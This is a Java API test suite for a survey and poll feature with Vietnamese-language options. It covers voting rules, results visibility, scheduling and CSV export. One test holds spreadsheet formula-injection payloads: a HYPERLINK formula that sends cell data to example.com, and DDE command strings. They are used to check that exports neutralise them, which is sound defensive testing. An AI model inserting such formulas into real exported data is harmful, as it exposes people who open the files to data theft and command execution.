package org.bantin.survey;

import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasKey;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.bantin.support.ApiTest;
import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.ValidatableResponse;

@QuarkusTest
class SurveyApiTest extends ApiTest {

    static final List<String> OPTIONS = List.of("Tin tức – Sự kiện", "Thủ tục hành chính", "Văn bản pháp luật", "Hỏi đáp");

    static Map<String, Object> survey(String visibility, boolean multipleChoice) {
        Map<String, Object> survey = new HashMap<>();
        survey.put("question", "Bạn quan tâm mục gì nhất trong Website của chúng tôi?");
        survey.put("options", OPTIONS);
        survey.put("multipleChoice", multipleChoice);
        survey.put("resultsVisibility", visibility);
        return survey;
    }

    static JsonPath create(Map<String, Object> survey) {
        return admin().body(survey).post("/api/v1/admin/surveys").then().statusCode(201).extract().jsonPath();
    }

    static JsonPath createOpen(Map<String, Object> survey) {
        long id = create(survey).getLong("id");
        return admin().post("/api/v1/admin/surveys/" + id + "/open").then().statusCode(200).body("state", equalTo("open"))
                .extract().jsonPath();
    }

    static ValidatableResponse vote(long surveyId, String voter, List<Long> optionIds) {
        return api().header("Voter-Token", voter).body(Map.of("optionIds", optionIds))
                .post("/api/v1/surveys/" + surveyId + "/votes").then();
    }

    /** A vote that breaks the contract on purpose. */
    static ValidatableResponse badVote(long surveyId, String voter, List<Long> optionIds) {
        return badRequest().header("Voter-Token", voter).contentType("application/json").body(Map.of("optionIds", optionIds))
                .post("/api/v1/surveys/" + surveyId + "/votes").then();
    }

    private long ballots(long surveyId) {
        return count("SELECT count(*) FROM survey_ballots WHERE survey_id = " + surveyId);
    }

    @Test
    void aNewSurveyIsADraftThatReadersCannotSee() {
        JsonPath created = create(survey("always", false));
        long id = created.getLong("id");
        assertEquals(OPTIONS, created.getList("options.text"));
        assertEquals("draft", created.getString("state"));
        api().get("/api/v1/surveys/" + id).then().statusCode(404);
        api().get("/api/v1/surveys").then().statusCode(200).body("items.id", not(hasItem((int) id)));
        vote(id, newVoter(), List.of(created.getLong("options[0].id"))).statusCode(409);
        assertEquals(0, ballots(id));
    }

    @Test
    void oneVotePerReaderAndTheResultsAfterVoting() {
        JsonPath survey = createOpen(survey("afterVote", false));
        long id = survey.getLong("id");
        long first = survey.getLong("options[0].id");
        api().queryParam("status", "open").get("/api/v1/surveys").then().statusCode(200).body("items.id", hasItem((int) id));

        String voter = newVoter();
        api().get("/api/v1/surveys/" + id + "/results").then().statusCode(403).contentType("application/problem+json");
        vote(id, voter, List.of(first)).statusCode(201)
                .body("results.totalVoters", equalTo(1)).body("results.options[0].votes", equalTo(1))
                .body("results.options[0].percent", equalTo(100.0f));
        vote(id, voter, List.of(survey.getLong("options[1].id"))).statusCode(409).contentType("application/problem+json");
        assertEquals(1, ballots(id));

        api().header("Voter-Token", voter).get("/api/v1/surveys/" + id).then().body("myVote", contains((int) first));
        api().get("/api/v1/surveys/" + id).then().body("$", not(hasKey("myVote")));
        api().header("Voter-Token", voter).get("/api/v1/surveys/" + id + "/results").then().statusCode(200)
                .body("options.text", equalTo(OPTIONS));
        api().header("Voter-Token", newVoter()).get("/api/v1/surveys/" + id + "/results").then().statusCode(403);
    }

    /** The answer to a vote counts that vote; others' votes of the last second may not be in it yet. */
    @Test
    void theAnswerToAVoteCountsThatVote() {
        JsonPath survey = createOpen(survey("always", false));
        long id = survey.getLong("id");
        List<Long> options = survey.getList("options.id", Long.class);
        for (int voter = 1; voter <= 4; voter++) {
            JsonPath results = vote(id, newVoter(), List.of(options.get(voter % 2))).statusCode(201)
                    .extract().jsonPath();
            int voters = results.getInt("results.totalVoters");
            int votesForChoice = results.getInt("results.options[" + voter % 2 + "].votes");
            assertTrue(voters >= 1 && voters <= voter, "voters " + voters + " after " + voter + " votes");
            assertTrue(votesForChoice >= 1 && votesForChoice <= (voter + 1) / 2, "votes " + votesForChoice);
        }
        api().get("/api/v1/surveys/" + id + "/results").then().body("totalVoters", equalTo(4))
                .body("options.votes", contains(2, 2, 0, 0));
    }

    @Test
    void resultsFollowTheSurveysVisibility() {
        long always = createOpen(survey("always", false)).getLong("id");
        api().get("/api/v1/surveys/" + always + "/results").then().statusCode(200).body("totalVoters", equalTo(0));

        JsonPath afterClose = createOpen(survey("afterClose", false));
        long afterCloseId = afterClose.getLong("id");
        vote(afterCloseId, newVoter(), List.of(afterClose.getLong("options[2].id"))).statusCode(201)
                .body("$", not(hasKey("results")));
        api().get("/api/v1/surveys/" + afterCloseId + "/results").then().statusCode(403);
        admin().post("/api/v1/admin/surveys/" + afterCloseId + "/close").then().statusCode(200).body("state",
                equalTo("closed"));
        api().get("/api/v1/surveys/" + afterCloseId + "/results").then().statusCode(200).body("options[2].votes", equalTo(1));
        vote(afterCloseId, newVoter(), List.of(afterClose.getLong("options[0].id"))).statusCode(409);

        long never = createOpen(survey("never", false)).getLong("id");
        api().get("/api/v1/surveys/" + never + "/results").then().statusCode(403);
        admin().get("/api/v1/admin/surveys/" + never).then().statusCode(200).body("results.totalVoters", equalTo(0));
    }

    @Test
    void multipleChoicePercentagesAreOfVoters() {
        Map<String, Object> input = survey("always", true);
        input.put("maxChoices", 2);
        JsonPath survey = createOpen(input);
        long id = survey.getLong("id");
        List<Long> options = survey.getList("options.id", Long.class);
        vote(id, newVoter(), List.of(options.get(0), options.get(1))).statusCode(201);
        vote(id, newVoter(), List.of(options.get(0))).statusCode(201);
        vote(id, newVoter(), List.of(options.get(1), options.get(2))).statusCode(201);
        api().get("/api/v1/surveys/" + id + "/results").then().statusCode(200)
                .body("totalVoters", equalTo(3))
                .body("options.votes", contains(2, 2, 1, 0))
                .body("options.percent", contains(66.7f, 66.7f, 33.3f, 0.0f));
    }

    @Test
    void badVotesAreRefusedAndNothingIsWritten() {
        JsonPath single = createOpen(survey("always", false));
        long id = single.getLong("id");
        List<Long> options = single.getList("options.id", Long.class);
        Map<String, Object> multiple = survey("always", true);
        multiple.put("maxChoices", 2);
        JsonPath other = createOpen(multiple);
        List<Long> otherOptions = other.getList("options.id", Long.class);
        String voter = newVoter();

        badVote(id, voter, List.of()).statusCode(422).body("errors[0].field", equalTo("optionIds"));
        vote(id, voter, List.of(options.get(0), options.get(1))).statusCode(422);
        vote(id, voter, List.of(options.get(0), options.get(0))).statusCode(422);
        vote(id, voter, List.of(otherOptions.get(0))).statusCode(422);
        vote(id, voter, List.of(999_999L)).statusCode(422);
        vote(other.getLong("id"), voter, otherOptions.subList(0, 3)).statusCode(422);
        badRequest().header("Voter-Token", voter).contentType("application/json").body("{\"optionIds\": \"một\"}")
                .post("/api/v1/surveys/" + id + "/votes").then().statusCode(400);
        badRequest().contentType("application/json").body(Map.of("optionIds", List.of(options.get(0))))
                .post("/api/v1/surveys/" + id + "/votes").then().statusCode(401);
        vote(999_999, voter, List.of(options.get(0))).statusCode(404);
        assertEquals(0, ballots(id));
        assertEquals(0, ballots(other.getLong("id")));
        vote(id, voter, List.of(options.get(0))).statusCode(201);
    }

    @Test
    void surveysOpenAndCloseByTheirTimes() {
        Map<String, Object> opened = survey("always", false);
        opened.put("opensAt", "2020-01-01T00:00:00+07:00");
        long openId = create(opened).getLong("id");
        api().get("/api/v1/surveys/" + openId).then().statusCode(200).body("state", equalTo("open"));

        Map<String, Object> closed = survey("always", false);
        closed.put("opensAt", "2020-01-01T00:00:00+07:00");
        closed.put("closesAt", "2020-02-01T00:00:00+07:00");
        long closedId = create(closed).getLong("id");
        api().get("/api/v1/surveys/" + closedId).then().statusCode(200).body("state", equalTo("closed"));
        api().queryParam("status", "closed").get("/api/v1/surveys").then().body("items.id", hasItem((int) closedId));

        Map<String, Object> backwards = survey("always", false);
        backwards.put("opensAt", "2030-02-01T00:00:00+07:00");
        backwards.put("closesAt", "2030-01-01T00:00:00+07:00");
        admin().body(backwards).post("/api/v1/admin/surveys").then().statusCode(422).body("errors[0].field",
                equalTo("closesAt"));
    }

    @Test
    void aDraftWhoseCloseTimeHasPassedStaysHidden() {
        Map<String, Object> draft = survey("always", false);
        draft.put("closesAt", "2020-02-01T00:00:00+07:00");
        JsonPath created = create(draft);
        long id = created.getLong("id");
        assertEquals("draft", created.getString("state"));
        api().get("/api/v1/surveys/" + id).then().statusCode(404);
        api().get("/api/v1/surveys/" + id + "/results").then().statusCode(404);
        api().queryParam("status", "closed").get("/api/v1/surveys").then().body("items.id", not(hasItem((int) id)));
        api().get("/api/v1/surveys").then().body("items.id", not(hasItem((int) id)));
        vote(id, newVoter(), List.of(created.getLong("options[0].id"))).statusCode(409);
    }

    @Test
    void theSqlAndJavaRulesOfASurveysStateAgree() {
        long id = create(survey("always", false)).getLong("id");
        OffsetDateTime now = OffsetDateTime.now(ZoneOffset.UTC);
        List<OffsetDateTime> times = Arrays.asList(null, now.minusDays(2), now.minusDays(1), now.plusDays(1));
        for (Survey.Status status : Survey.Status.values()) {
            for (OffsetDateTime opensAt : times) {
                for (OffsetDateTime closesAt : times) {
                    if (opensAt != null && closesAt != null && !closesAt.isAfter(opensAt)) {
                        continue; // refused by the table's check
                    }
                    Survey survey = new Survey();
                    survey.status = status;
                    survey.opensAt = opensAt;
                    survey.closesAt = closesAt;
                    String sql = sqlState(id, status, opensAt, closesAt);
                    assertEquals(survey.state(now).wireName(), sql, status + " " + opensAt + " " + closesAt);
                }
            }
        }
    }

    /** The state the SQL functions give a survey row with these fields (not stored: the update is rolled back). */
    private String sqlState(long id, Survey.Status status, OffsetDateTime opensAt, OffsetDateTime closesAt) {
        try (Connection connection = dataSource.getConnection()) {
            connection.setAutoCommit(false);
            try (PreparedStatement update = connection.prepareStatement(
                    "UPDATE surveys SET status = ?, opens_at = ?, closes_at = ? WHERE id = ?");
                    PreparedStatement query = connection.prepareStatement("SELECT CASE WHEN survey_is_open(s) THEN 'open' "
                            + "WHEN survey_is_closed(s) THEN 'closed' ELSE 'draft' END FROM surveys s WHERE id = ?")) {
                update.setString(1, status.name());
                update.setObject(2, opensAt);
                update.setObject(3, closesAt);
                update.setLong(4, id);
                update.executeUpdate();
                query.setLong(1, id);
                try (ResultSet result = query.executeQuery()) {
                    result.next();
                    return result.getString(1);
                }
            } finally {
                connection.rollback();
            }
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void editorsManageOptionsButKeepThoseWithVotes() {
        JsonPath survey = createOpen(survey("always", false));
        long id = survey.getLong("id");
        List<Long> options = survey.getList("options.id", Long.class);
        vote(id, newVoter(), List.of(options.get(0))).statusCode(201);

        admin().delete("/api/v1/admin/surveys/" + id + "/options/" + options.get(0)).then().statusCode(409)
                .contentType("application/problem+json");
        admin().delete("/api/v1/admin/surveys/" + id + "/options/" + options.get(3)).then().statusCode(204);
        long added = admin().body(Map.of("text", "Thông tin tuyên truyền")).post("/api/v1/admin/surveys/" + id + "/options")
                .then().statusCode(201).body("text", equalTo("Thông tin tuyên truyền")).extract().jsonPath().getLong("id");
        admin().body(Map.of("text", "Hỏi – đáp")).put("/api/v1/admin/surveys/" + id + "/options/" + options.get(2))
                .then().statusCode(200);
        admin().body(Map.of("text", "tin tức – sự kiện")).post("/api/v1/admin/surveys/" + id + "/options").then()
                .statusCode(422);
        List<Long> order = List.of(added, options.get(2), options.get(1), options.get(0));
        admin().body(Map.of("optionIds", order)).put("/api/v1/admin/surveys/" + id + "/options/order").then().statusCode(200)
                .body("options.text",
                        contains("Thông tin tuyên truyền", "Hỏi – đáp", "Thủ tục hành chính", "Tin tức – Sự kiện"));
        admin().body(Map.of("optionIds", order.subList(0, 3))).put("/api/v1/admin/surveys/" + id + "/options/order")
                .then().statusCode(422);
        api().get("/api/v1/surveys/" + id + "/results").then()
                .body("options.votes", contains(0, 0, 0, 1)).body("totalVoters", equalTo(1));
    }

    @Test
    void deletingASurveyDeletesItsVotes() {
        JsonPath survey = createOpen(survey("always", true));
        long id = survey.getLong("id");
        List<Long> options = survey.getList("options.id", Long.class);
        vote(id, newVoter(), List.of(options.get(0), options.get(1))).statusCode(201);
        vote(id, newVoter(), List.of(options.get(1))).statusCode(201);

        admin().delete("/api/v1/admin/surveys/" + id).then().statusCode(204);
        api().get("/api/v1/surveys/" + id).then().statusCode(404);
        for (String table : List.of("surveys WHERE id", "survey_options WHERE survey_id", "survey_ballots WHERE survey_id",
                "survey_ballot_options WHERE survey_id", "survey_totals WHERE survey_id")) {
            assertEquals(0, count("SELECT count(*) FROM " + table + " = " + id), table);
        }
        admin().delete("/api/v1/admin/surveys/" + id).then().statusCode(404);
    }

    @Test
    void resultsExportAsCsvThatSpreadsheetsReadAsUtf8() {
        JsonPath survey = createOpen(survey("never", false));
        long id = survey.getLong("id");
        vote(id, newVoter(), List.of(survey.getLong("options[1].id"))).statusCode(201);
        byte[] csv = admin().accept("text/csv").get("/api/v1/admin/surveys/" + id + "/results.csv").then().statusCode(200)
                .contentType(startsWith("text/csv")).header("Content-Disposition", startsWith("attachment"))
                .extract().asByteArray();
        assertEquals(List.of((byte) 0xEF, (byte) 0xBB, (byte) 0xBF), List.of(csv[0], csv[1], csv[2]));
        String text = new String(csv, java.nio.charset.StandardCharsets.UTF_8).substring(1);
        assertEquals("Phương án,Số phiếu,Tỷ lệ (%)\r\nTin tức – Sự kiện,0,0.0\r\nThủ tục hành chính,1,100.0\r\n"
                + "Văn bản pháp luật,0,0.0\r\nHỏi đáp,0,0.0\r\nTổng số người tham gia,1,\r\n", text);
    }

    @Test
    void optionsThatSpreadsheetsWouldRunAreExportedAsText() {
        List<String> payloads = List.of("=HYPERLINK(\"http://example.com/?x=\"&A1,\"Xem\")", "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2;=3");
        Map<String, Object> survey = survey("never", false);
        survey.put("options", payloads);
        long id = create(survey).getLong("id");
        String csv = admin().accept("text/csv").get("/api/v1/admin/surveys/" + id + "/results.csv").then()
                .statusCode(200).extract().asString();
        List<String> rows = List.of(csv.substring(1).split("\r\n"));
        assertEquals(payloads.size() + 2, rows.size());
        for (String row : rows.subList(1, payloads.size() + 1)) {
            assertTrue(row.startsWith("'") || row.startsWith("\"'"), row);
        }
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://example.com/?x=\"\"&A1,\"\"Xem\"\")\",0,0.0"), csv);
        assertEquals("'+cmd|' /C calc'!A0,0,0.0", rows.get(2));
    }

    @Test
    void onlyEditorsManageSurveys() {
        String author = tokenWithRole("author");
        long before = count("SELECT count(*) FROM surveys");
        as(author).body(survey("always", false)).post("/api/v1/admin/surveys").then().statusCode(403);
        assertEquals(before, count("SELECT count(*) FROM surveys"));
        badRequest().contentType("application/json").body(survey("always", false)).post("/api/v1/admin/surveys").then()
                .statusCode(401);
    }

    @Test
    void invalidSurveysAreA422NamingEachField() {
        long before = count("SELECT count(*) FROM surveys");
        Map<String, Object> input = survey("always", false);
        input.put("options", List.of("Chỉ một"));
        input.put("question", "");
        badRequest().header("Authorization", "Bearer " + ADMIN_TOKEN).contentType("application/json").body(input)
                .post("/api/v1/admin/surveys").then().statusCode(422)
                .body("errors.field", contains("options", "question"));
        Map<String, Object> unknownVisibility = survey("sometimes", false);
        badRequest().header("Authorization", "Bearer " + ADMIN_TOKEN).contentType("application/json").body(unknownVisibility)
                .post("/api/v1/admin/surveys").then().statusCode(400).body("errors[0].field", equalTo("resultsVisibility"));
        assertEquals(before, count("SELECT count(*) FROM surveys"));
    }
}
